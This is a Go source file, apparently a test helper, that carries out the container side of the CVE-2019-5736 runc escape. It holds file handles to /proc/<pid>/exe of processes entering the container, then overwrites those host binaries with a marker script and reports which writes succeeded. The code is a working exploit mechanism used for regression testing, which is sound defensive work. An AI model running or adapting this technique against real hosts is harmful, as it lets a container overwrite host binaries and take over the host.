// Command exewatch is the container's half of the CVE-2019-5736 exploit,
// for the tests: it opens /proc/<pid>/exe of every process that shows up in
// its pid namespace, as soon as it shows up and again whenever that process
// execs something else, and keeps every file it gets. Once GO exists (the
// runtime on the host has exited by then, so the kernel no longer answers
// ETXTBSY), it reopens each kept file through /proc/self/fd/N for writing
// and writes to it, as the exploit overwrites runc. REPORT gets a line per
// file, "WROTE <file>" or "DENIED <file>: <error>", then "DONE".
//
//	exewatch GO REPORT [DEV:INO ...]
//
// The DEV:INO files are the containers' own (busybox, exewatch itself):
// seen, but not written.
package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

type held struct {
	fd     int
	target string
}

func main() {
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: exewatch GO REPORT [DEV:INO ...]")
		os.Exit(2)
	}
	goFile, report := os.Args[1], os.Args[2]
	own := map[string]bool{}
	for _, a := range os.Args[3:] {
		own[a] = true
	}
	proc, err := os.Open("/proc")
	if err != nil {
		fmt.Fprintln(os.Stderr, "exewatch:", err)
		os.Exit(1)
	}
	self := strconv.Itoa(os.Getpid())
	kept := map[string]held{} // by DEV:INO
	for {
		if _, err := os.Stat(goFile); err == nil {
			break
		}
		proc.Seek(0, 0)
		names, _ := proc.Readdirnames(-1)
		for _, name := range names {
			if name == self || name[0] < '0' || name[0] > '9' {
				continue
			}
			fd, err := unix.Open("/proc/"+name+"/exe", unix.O_RDONLY, 0)
			if err != nil {
				continue // gone, a kernel thread, or not ours to open (not dumpable)
			}
			var st unix.Stat_t
			if unix.Fstat(fd, &st) != nil {
				unix.Close(fd)
				continue
			}
			key := fmt.Sprintf("%d:%d", st.Dev, st.Ino)
			if _, ok := kept[key]; ok {
				unix.Close(fd)
				continue
			}
			target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
			kept[key] = held{fd, target}
		}
	}
	var out strings.Builder
	for key, h := range kept {
		if own[key] {
			continue
		}
		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", h.fd), unix.O_WRONLY, 0)
		if err == nil {
			_, err = unix.Pwrite(w, []byte("#!/bin/sh\necho the container wrote this\n"), 0)
			unix.Close(w)
		}
		if err != nil {
			fmt.Fprintf(&out, "DENIED %s: %v\n", h.target, err)
		} else {
			fmt.Fprintf(&out, "WROTE %s\n", h.target)
		}
	}
	out.WriteString("DONE\n")
	if err := os.WriteFile(report, []byte(out.String()), 0o644); err != nil {
		fmt.Fprintln(os.Stderr, "exewatch:", err)
		os.Exit(1)
	}
}
